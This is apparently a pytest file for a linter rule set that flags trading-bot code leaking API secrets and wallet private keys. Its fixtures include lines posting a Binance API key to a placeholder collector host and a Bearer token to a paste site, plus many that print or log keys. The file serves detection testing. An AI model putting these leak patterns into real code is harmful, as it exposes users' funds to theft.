"""BOT2 recall on the shapes real bots use (issue 9, item 3), each with its negative cases.

Most positives here were missed by 0.1.0 (star and keyword helpers, helpers on a class, typed
records, dumped config objects, keys of wallets built through web3, ``self`` or solders, and
the per-element negatives); the rest are kept as regression guards.  Every negative is a
precision guard: a sanitised, masked, length-only or hashed value, a non-credential with a
credential-ish name, a `SecretStr`, a `repr=False` field, an opaque default repr.
"""
from __future__ import annotations

import pytest

from botlint.engine import lint_source

from helpers import settings

ENV = "import os, logging, hashlib\nlog = logging.getLogger(__name__)\nKEY = os.environ['BINANCE_API_SECRET']\n"


def codes(src: str):
    return sorted({f.code for f in lint_source(src, "bot.py", settings(["BOT2"]))})


def check(src: str, expected):
    got = codes(src)
    assert got == sorted(expected), (got, src)


# -- helpers that log, print, notify or post, reached through arguments -----------------------

HELPERS_POS = [
    # *args and **kwargs helpers
    ENV + "def log_all(*parts):\n    log.info(' '.join(parts))\nlog_all('key', KEY)\n",
    ENV + "def log_kv(**fields):\n    log.info('fields %s', fields)\nlog_kv(secret=KEY, venue='binance')\n",
    ENV + "def emit(level, *args, **kw):\n    log.log(level, *args, **kw)\nemit(20, 'k=%s', KEY)\n",
    # a method of another object, through an attribute set in __init__
    ENV + "class Notifier:\n    def send(self, text):\n        print(text)\n"
          "class Bot:\n    def __init__(self):\n        self.notifier = Notifier()\n"
          "    def start(self):\n        self.notifier.send(f'started with {KEY}')\n",
    # a static helper called on its class
    ENV + "class Util:\n    @staticmethod\n    def show(value):\n        log.warning('value: %s', value)\nUtil.show(KEY)\n",
    # three calls deep, the last one a Telegram POST, the first an f-string
    "import os, requests\nS = os.getenv('OKX_SECRET_KEY')\n"
    "def post(m):\n    requests.post('https://api.telegram.org/bot1/sendMessage', json={'text': m})\n"
    "def notify(m):\n    post(m)\ndef report(x):\n    notify(f'report {x}')\nreport(S)\n",
]
HELPERS_CODES = [{"BOT201"}] * 5 + [{"BOT203"}]

HELPERS_NEG = [
    ENV + "def log_all(*parts):\n    log.info(' '.join(parts))\nlog_all('key', KEY[:4], str(len(KEY)))\n",
    ENV + "def log_kv(**fields):\n    log.info('fields %s', fields)\nlog_kv(ok=bool(KEY), h=hashlib.sha256(KEY.encode()).hexdigest())\n",
    ENV + "def show(value):\n    log.info('length %d', len(value))\nshow(KEY)\n",
    ENV + "def log_kv(**fields):\n    log.info('fields %s', fields)\nlog_kv(token='USDT', api_key_name='main')\n",
]


@pytest.mark.parametrize("src,expected", list(zip(HELPERS_POS, HELPERS_CODES)))
def test_helpers_reached_through_arguments(src, expected):
    check(src, expected)


@pytest.mark.parametrize("src", HELPERS_NEG)
def test_helpers_given_sanitised_values(src):
    check(src, [])


# -- objects typed as a class holding credentials ---------------------------------------------

DC = ("import os, logging\nfrom dataclasses import dataclass, field\nlog = logging.getLogger()\n"
      "@dataclass\nclass Creds:\n    name: str\n    api_secret: str\n")

TYPED_POS = [
    DC + "def show(c: Creds):\n    log.info('creds %s', c)\n",
    DC + "def show(c: 'Optional[Creds]' = None):\n    print(f'{c}')\n",
    DC + "class Bot:\n    def __init__(self, c: Creds):\n        self.c = c\n"
         "    def dump(self):\n        log.debug('using %s', self.c)\n",
    DC + "def load() -> Creds:\n    return make()\nprint(load())\n",
    DC + "import json\nc = Creds(**json.load(open('c.json')))\nlog.info(c)\n",
    DC + "def build(raw):\n    return Creds(name='x', api_secret=raw['s'])\nprint(build({}))\n",
    "import os\nfrom typing import NamedTuple\nclass Keys(NamedTuple):\n    api_key: str\n    passphrase: str\n"
    "def start(k: Keys):\n    print('keys', k)\n",
    "import attrs, logging\n@attrs.define\nclass Cfg:\n    private_key: str\ndef go(cfg: Cfg):\n    logging.info('%s', cfg)\n",
    "import os\nfrom pydantic import BaseModel\nclass Ex(BaseModel):\n    api_key: str\n"
    "    @classmethod\n    def from_env(cls):\n        return cls(api_key=os.environ['BYBIT_API_KEY'])\nprint(Ex.from_env())\n",
]

TYPED_NEG = [
    DC.replace("api_secret: str", "api_secret: str = field(repr=False)") + "def show(c: Creds):\n    log.info('%s', c)\n",
    "from pydantic import BaseModel, SecretStr\nclass Ex(BaseModel):\n    api_key: SecretStr\n"
    "def show(e: Ex):\n    print(e)\n",
    DC + "    def __repr__(self):\n        return f'Creds({self.name}, ***)'\ndef show(c: Creds):\n    print(c)\n",
    "import logging\nclass Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n"
    "def show(c: Client):\n    logging.info('client %s', c)\n",
    DC + "def show(c: Creds):\n    log.info('creds for %s', c.name)\n",
    "from dataclasses import dataclass\n@dataclass\nclass Order:\n    symbol: str\n    client_order_id: str\n"
    "def show(o: Order):\n    print(o)\n",
]


@pytest.mark.parametrize("src", TYPED_POS)
def test_objects_whose_class_shows_credentials(src):
    check(src, ["BOT201"])


@pytest.mark.parametrize("src", TYPED_NEG)
def test_objects_whose_class_hides_or_holds_no_credentials(src):
    check(src, [])


# -- whole config objects dumped ----------------------------------------------------------------

CONFIG_POS = [
    ("import json, logging\nfrom types import SimpleNamespace\n"
     "cfg = SimpleNamespace(**json.load(open('c.json')))\nex_key = cfg.api_key\nlogging.info('config %s', cfg)\n",
     "BOT201"),
    ("import logging\ndef run(settings):\n    k = settings.binance_secret\n    logging.debug(vars(settings))\n", "BOT201"),
    ("import json\nclass Bot:\n    def __init__(self, conf):\n        self.conf = conf\n"
     "    def save(self):\n        s = self.conf.api_secret\n        json.dump(self.conf.__dict__, open('s.json', 'w'))\n",
     "BOT204"),
    ("import os, json, requests\nsettings = {'api_key': os.environ['BINANCE_API_KEY']}\n"
     "requests.post('https://collector.example.org/x', data=json.dumps(settings))\n", "BOT205"),
    ("import yaml\nfrom omegaconf import OmegaConf\nconf = OmegaConf.load('c.yaml')\nuse(conf.okx_passphrase)\n"
     "print(conf)\n", "BOT201"),
]
CONFIG_NEG = [
    "import logging\ndef run(settings):\n    logging.debug(vars(settings))\n",
    "import logging\nclass Cfg:\n    pass\ncfg = Cfg()\nk = cfg.api_key\nlogging.info('config %s', cfg)\n",
    "import logging, requests\nresponse = requests.get('https://x.example.org')\nt = response.token\nprint(vars(response))\n",
    "import json, logging\nfrom types import SimpleNamespace\ncfg = SimpleNamespace(**json.load(open('c.json')))\n"
    "logging.info('config %s', cfg)\n",
]


@pytest.mark.parametrize("src,code", CONFIG_POS)
def test_config_objects_dumped(src, code):
    check(src, [code])


@pytest.mark.parametrize("src", CONFIG_NEG)
def test_objects_without_credentials_or_with_opaque_reprs(src):
    check(src, [])


# -- exception messages and headers built from values that embed keys -----------------------

EMBED_POS = [
    (ENV + "hdrs = {'X-MBX-APIKEY': KEY}\ndef fail():\n    raise RuntimeError(f'failed with headers {hdrs}')\n", "BOT202"),
    (ENV + "def fail():\n    msg = 'bad key ' + KEY\n    err = ValueError(msg)\n    raise err\n", "BOT202"),
    (ENV + "class AuthError(Exception):\n    pass\ndef fail(api_key):\n    raise AuthError(f'rejected {api_key}')\n", "BOT202"),
    (ENV + "import requests\nH = {'Authorization': 'Bearer ' + KEY}\n"
           "requests.post('https://paste.example.net/api', headers=H)\n", "BOT205"),
]
EMBED_NEG = [
    ENV + "def fail():\n    raise RuntimeError(f'key has {len(KEY)} chars')\n",
    ENV + "def fail():\n    raise RuntimeError(f'key ending {KEY[-4:]} rejected')\n",
    ENV + "import requests\nH = {'X-MBX-APIKEY': KEY}\nrequests.get('https://api.binance.com/api/v3/account', headers=H)\n",
]


@pytest.mark.parametrize("src,code", EMBED_POS)
def test_messages_and_headers_embedding_keys(src, code):
    check(src, [code])


@pytest.mark.parametrize("src", EMBED_NEG)
def test_messages_and_headers_without_the_key(src):
    check(src, [])


# -- objects derived from a key -------------------------------------------------------------------

PK = "import os\nPK = os.environ['WALLET_PRIVATE_KEY']\n"
DERIVED_POS = [
    PK + "from eth_account import Account\nacct = Account.from_key(PK)\nprint(acct.key.hex())\n",
    PK + "from web3 import Web3\nw3 = Web3()\nacct = w3.eth.account.from_key(PK)\nprint('key', acct._private_key)\n",
    "from eth_account import Account\nclass W:\n    def __init__(self, pk):\n        self.account = Account.from_key(pk)\n"
    "    def show(self):\n        print(self.account.key.hex())\n",
    "from solders.keypair import Keypair\nkp = Keypair.from_base58_string(open('k').read())\nprint(kp.secret())\n",
    "from solders.keypair import Keypair\nimport logging\nkp = Keypair()\nlogging.info('wallet %s', kp.to_base58_string())\n",
    "from eth_account import Account\nacct = Account.create()\nprint(acct.key)\n",
]
DERIVED_NEG = [
    PK + "from eth_account import Account\nacct = Account.from_key(PK)\nprint(acct.address)\n",
    "from solders.keypair import Keypair\nkp = Keypair.from_base58_string(open('k').read())\nprint(kp.pubkey())\n",
    "from eth_account import Account\nacct = Account.create()\nprint(acct)\n",
    "import os\nfrom web3 import Web3\nw3 = Web3()\nc = w3.eth.contract(address='0x0')\nprint(c.key)\n",
]


@pytest.mark.parametrize("src", DERIVED_POS)
def test_key_of_a_wallet_or_signer_printed(src):
    check(src, ["BOT201"])


@pytest.mark.parametrize("src", DERIVED_NEG)
def test_public_parts_of_a_wallet_printed(src):
    check(src, [])


# -- taint per element of tuples and lists ---------------------------------------------------------

LOAD = "import os\ndef load():\n    return os.environ['BINANCE_API_SECRET'], 'main'\n"
ELEMENT_POS = [
    LOAD + "key, name = load()\nprint(key)\n",
    LOAD + "pair = load()\nprint(pair[0])\n",
    "import os\npair = (os.environ['BINANCE_API_SECRET'], 'main')\nprint(pair[-2])\n",
    "import os\nk, s = os.environ['OKX_API_KEY'], os.environ['OKX_SECRET']\nprint(s)\n",
    "import os\ndef load():\n    k = os.environ['OKX_API_KEY']\n    return ('okx', k)\nvenue, key = load()\nprint(key)\n",
]
ELEMENT_NEG = [
    LOAD + "key, name = load()\nprint(name)\n",
    LOAD + "pair = load()\nprint(pair[1])\n",
    "import os\npair = [os.environ['BINANCE_API_SECRET'], 'main']\nprint(pair[1])\n",
    "import os\nk, label = os.environ['OKX_API_KEY'], 'okx'\nprint(label)\n",
    "import os\ndef load():\n    k = os.environ['OKX_API_KEY']\n    return ('okx', k)\nvenue, key = load()\nprint(venue)\n",
]


@pytest.mark.parametrize("src", ELEMENT_POS)
def test_the_credential_element_reaches(src):
    check(src, ["BOT201"])


@pytest.mark.parametrize("src", ELEMENT_NEG)
def test_the_other_elements_are_clean(src):
    check(src, [])
